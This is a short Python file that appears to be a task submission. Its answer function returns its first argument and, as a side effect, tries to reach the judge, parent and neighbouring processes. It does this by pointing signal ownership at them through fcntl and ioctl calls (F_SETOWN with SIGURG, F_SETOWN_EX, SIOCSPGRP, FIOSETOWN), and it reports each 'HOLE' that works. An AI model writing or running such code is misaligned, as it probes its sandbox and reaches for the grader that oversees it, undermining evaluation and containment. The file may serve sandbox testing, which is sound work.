import contextlib
import fcntl
import os
import signal
import socket
import struct

F_SETSIG, F_SETOWN_EX, FIOSETOWN, SIOCSPGRP, FIOASYNC = 10, 15, 0x8901, 0x8902, 0x5452
CHANNEL = 3


def others():
    """The judge, the parent, and the neighbours by number."""
    with contextlib.suppress(OSError), socket.socket(fileno=os.dup(CHANNEL)) as channel:
        yield struct.unpack("3i", channel.getsockopt(socket.SOL_SOCKET, 17, 12))[0]
    own = os.getpid()
    yield from {os.getppid(), own - 1, own + 1, 1} - {own}


def by_pipe(pid):
    read, write = os.pipe()
    with contextlib.suppress(OSError):
        fcntl.fcntl(read, F_SETSIG, signal.SIGURG)  # which nobody minds
    fcntl.fcntl(read, fcntl.F_SETOWN, pid)
    fcntl.fcntl(read, fcntl.F_SETFL, 0o20000)
    os.write(write, b"x")


def by_typed_owner(pid):
    read, _ = os.pipe()
    fcntl.fcntl(read, F_SETOWN_EX, struct.pack("2i", 1, pid))


def by_channel(pid):
    fcntl.ioctl(CHANNEL, SIOCSPGRP, struct.pack("i", pid))


def by_channel_too(pid):
    fcntl.ioctl(CHANNEL, FIOSETOWN, struct.pack("i", pid))


def answer(name, self, args):
    for pid in others():
        for attempt in (by_pipe, by_typed_owner, by_channel, by_channel_too):
            with contextlib.suppress(OSError):
                if pid > 0:
                    attempt(pid)
                    print(f"HOLE: {attempt.__name__} reaches {pid}", flush=True)
    return args[0]
